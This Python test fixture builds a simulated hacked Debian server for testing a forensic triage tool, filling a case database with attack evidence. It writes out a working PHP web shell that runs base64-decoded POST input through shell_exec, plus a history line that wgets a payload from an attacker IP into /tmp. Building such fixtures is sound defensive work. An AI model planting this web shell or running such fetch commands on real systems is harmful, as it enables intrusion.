"""Case files for the query, custody, merge and serve tests.

`attacked_case()` builds the hacked-debian sample, adds the web shell and
dropper its story needs, inventories it with the real runner, then fills the
tables other collectors own with rows shaped as their collectors write them:
the sample's own access log lines, a brute force lifted from a real sshd log
(../shared/data), the story's cron job, account, history and trojaned
binary. All rows go through the real schema (BatchWriter refuses unknown
columns), so a query that names a column the schema lacks fails here.
"""

from __future__ import annotations

import json
import os
import re
from datetime import datetime
from pathlib import Path

import sqlite_utils

from triage import runner
from triage.case import BatchWriter, open_case

ROOT = Path(__file__).resolve().parent.parent
SHARED_DATA = ROOT.parent / "shared" / "data"
ATTACKER = "203.0.113.66"
BRUTE = "173.234.31.186"
SHELL = "/var/www/html/wp-content/uploads/2024/03/thumb.php"

_COMBINED = re.compile(r'(\S+) (\S+) (\S+) \[([^\]]+)\] "(\S+) (\S+) (\S+)" (\d{3}) (\d+|-) '
                       r'"([^"]*)" "([^"]*)"')


def sample_tree(name: str, dest: Path) -> Path:
    """A scenario of samples/ built into ``dest`` by samples/build.py (which is not a package)."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("sample_build", ROOT / "samples" / "build.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.build(name, dest)


def build_sample(dest: Path) -> Path:
    root = sample_tree("hacked-debian", dest)
    shell = root / SHELL.lstrip("/")
    shell.parent.mkdir(parents=True, exist_ok=True)
    shell.write_text("<?php if(isset($_POST['c'])){ echo shell_exec(base64_decode($_POST['c'])); } ?>\n")
    os.utime(shell, (1709349248, 1709349248))
    return root


def access_rows(path: Path, source: str) -> list[dict]:
    rows = []
    for number, line in enumerate(path.read_text(errors="replace").splitlines(), 1):
        m = _COMBINED.match(line)
        if not m:
            continue
        ip, ident, user, when, method, url, proto, status, size, ref, agent = m.groups()
        dt = datetime.strptime(when, "%d/%b/%Y:%H:%M:%S %z")
        from triage.times import iso

        rows.append({"source": source, "line": number, "vhost": "www.example.com", "time": iso(dt),
                     "time_text": when, "client_ip": ip, "ident": ident, "remote_user": user,
                     "method": method, "url": url, "path": url.split("?", 1)[0],
                     "query": url.partition("?")[2] or None, "protocol": proto, "status": int(status),
                     "bytes": None if size == "-" else int(size), "referer": ref, "user_agent": agent})
    return rows


def auth_rows(path: Path, year: int = 2024) -> list[dict]:
    pattern = re.compile(r"(\w{3} +\d+ [\d:]+) (\S+) sshd\[(\d+)\]: "
                         r"(Accepted|Failed) (\S+) for (?:invalid user )?(\S+) from (\S+) port (\d+)")
    rows = []
    for number, line in enumerate(path.read_text(errors="replace").splitlines(), 1):
        m = pattern.match(line)
        if not m:
            continue
        when, host, pid, outcome, method, user, ip, port = m.groups()
        dt = datetime.strptime(f"{year} {when}", "%Y %b %d %H:%M:%S")
        rows.append({"source": "/var/log/auth.log", "line": number, "time": dt.strftime("%Y-%m-%dT%H:%M:%SZ"),
                     "time_text": when, "host": host, "program": "sshd", "pid": int(pid),
                     "event": "accepted" if outcome == "Accepted" else "failed", "user": user,
                     "client_ip": ip, "port": int(port), "method": method, "detail": None, "raw": line})
    return rows


def fill(db: sqlite_utils.Database, run_id: int) -> None:
    """The rows the system, web and scan stages write for the sample's story."""
    w = BatchWriter(db)

    def add(table: str, **row: object) -> None:
        w.add(table, {"run_id": run_id, **row})

    for row in access_rows(ROOT / "samples/hacked-debian/tree/var/log/apache2/access.log",
                           "/var/log/apache2/access.log"):
        add("access_log", **row)
    for log in sorted((SHARED_DATA / "apache").glob("honeynet-access_log*")):
        for row in access_rows(log, f"/var/log/httpd/{log.name}"):
            add("access_log", **{**row, "vhost": "old.example.com"})
    for row in auth_rows(SHARED_DATA / "sshd" / "OpenSSH_2k.log"):
        add("auth_events", **row)
    add("auth_events", source="/var/log/auth.log", line=9001, time="2024-03-02T03:20:00Z",
        time_text="Mar  2 03:20:00", host="web01", program="sshd", pid=4242, event="accepted", user="backup",
        client_ip=ATTACKER, port=50022, method="publickey", detail=None,
        raw=f"Mar  2 03:20:00 web01 sshd[4242]: Accepted publickey for backup from {ATTACKER} "
            "port 50022 ssh2")
    add("logins", source="/var/log/wtmp", line=7, kind="wtmp", type="USER_PROCESS", user="backup",
        tty="pts/0", host=ATTACKER, ip=ATTACKER, pid=4243, time="2024-03-02T03:20:01Z", session=0, flags="[]")
    add("url_map", source="/etc/apache2/sites-enabled/000-default.conf", line=3, vhost_id=1,
        host="www.example.com", url_prefix="/", path="/var/www/html", kind="document_root", executes_php=1)
    add("findings", path=SHELL, sha256=None, kind="yara", rule="php_request_to_exec", category="webshell",
        score=80, description="request input reaches shell_exec", detail="$_POST -> shell_exec",
        ruleset="triage")
    add("findings", path=SHELL, sha256=None, kind="signal", rule="script_in_uploads", category="location",
        score=40, description="PHP in an upload folder", detail=None, ruleset=None)
    add("file_scores", path=SHELL, sha256=None, score=95, verdict="webshell",
        reasons=json.dumps(["php_request_to_exec", "script_in_uploads"]))
    add("file_scores", path="/tmp/.x/kworker", sha256=None, score=60, verdict="suspicious",
        reasons=json.dumps(["executable in a hidden tmp folder"]))
    add("file_scores", path="/var/www/html/index.php", sha256=None, score=0, verdict="clean", reasons="[]")
    add("users", source="/etc/passwd", line=1, name="root", uid=0, gid=0, gecos="root", home="/root",
        shell="/bin/bash", hash_scheme="sha512", password_state="set", last_change="2022-05-10", flags="[]")
    add("users", source="/etc/passwd", line=30, name="backup2", uid=0, gid=0, gecos="", home="/var/backups",
        shell="/bin/bash", hash_scheme="sha512", password_state="set", last_change="2024-03-02",
        flags=json.dumps(["second UID 0 account"]))
    add("users", source="/etc/passwd", line=20, name="alice", uid=1000, gid=1000, gecos="Alice",
        home="/home/alice", shell="/bin/bash", hash_scheme="yescrypt", password_state="set",
        last_change="2023-01-04", flags="[]")
    add("groups", source="/etc/group", line=27, name="sudo", gid=27, members=json.dumps(["alice"]),
        admins="[]", flags="[]")
    add("cron_jobs", source="/var/spool/cron/crontabs/www-data", line=2, kind="user crontab",
        schedule="@reboot", user="www-data", command="/tmp/.x/kworker >/dev/null 2>&1", unit=None, env=None,
        flags=json.dumps(["runs from /tmp", "web user crontab"]),
        undo="crontab -r -u www-data (or delete /var/spool/cron/crontabs/www-data)")
    add("cron_jobs", source="/etc/crontab", line=12, kind="system crontab", schedule="17 * * * *",
        user="root", command="cd / && run-parts --report /etc/cron.hourly", unit=None, env=None,
        flags="[]", undo=None)
    add("persistence", source="/etc/systemd/system/dbus-helper.service", line=None, kind="systemd unit",
        name="dbus-helper.service", detail="ExecStart=/usr/local/bin/dbus-helper", enabled=1, package=None,
        flags=json.dumps(["not from a package"]),
        undo="systemctl disable --now dbus-helper.service; rm /etc/systemd/system/dbus-helper.service")
    add("persistence", source="/lib/systemd/system/ssh.service", line=None, kind="systemd unit",
        name="ssh.service", detail="ExecStart=/usr/sbin/sshd -D", enabled=1, package="openssh-server",
        flags="[]", undo=None)
    add("package_integrity", path="/bin/ls", package="coreutils", status="changed",
        expected_md5="0f9b1a7c7b5e6f0d9b4e2b1c8a3d5e71", actual_md5="d41d8cd98f00b204e9800998ecf8427e",
        conffile=0, flags=json.dumps(["binary differs from its package"]))
    add("package_integrity", path="/etc/ssh/sshd_config", package="openssh-server", status="changed",
        expected_md5="aa", actual_md5="bb", conffile=1, flags="[]")
    add("package_integrity", path="/usr/bin/id", package="coreutils", status="ok",
        expected_md5="cc", actual_md5="cc", conffile=0, flags="[]")
    add("shell_history", source="/home/alice/.bash_history", line=3, user="alice", shell="bash",
        time="2024-03-02T03:25:00Z", command="wget http://203.0.113.66/x -O /tmp/.x/kworker", flags="[]")
    add("shell_history", source="/root/.bash_history", line=9, user="root", shell="bash", time=None,
        command="apt-get upgrade", flags="[]")
    add("system_facts", source="/etc/hostname", line=1, key="hostname", value="web01", flags="[]")
    w.flush()


def attacked_case(tmp: Path, name: str = "case.db", hostname: str | None = None) -> Path:
    """The sample inventoried for real plus the story's rows; sealed like any run."""
    root = build_sample(tmp / f"evidence-{name}")
    case = tmp / name
    summary = runner.collect(os.fspath(root), os.fspath(case), only=["files"], argv=[])
    assert summary.status == "complete"
    db = open_case(case)
    fill(db, summary.run_id)
    if hostname:
        db.execute("UPDATE system_facts SET value = ? WHERE key = 'hostname'", [hostname])
    from triage import custody

    custody.seal(db, summary.run_id)
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # as a finished triage process leaves it
    db.conn.close()
    return case
